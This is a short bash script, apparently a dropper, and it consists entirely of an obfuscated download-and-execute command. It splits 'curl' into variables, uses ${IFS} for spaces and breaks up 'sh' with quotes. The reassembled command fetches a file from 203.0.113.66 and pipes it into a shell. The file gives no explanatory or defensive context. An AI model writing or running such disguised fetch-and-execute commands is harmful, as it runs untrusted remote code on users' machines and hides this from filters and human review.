#!/bin/bash
a=cu;b=rl;h=http;d=203.0.113.66
$a$b${IFS}-s${IFS}$h://$d/x | s''h
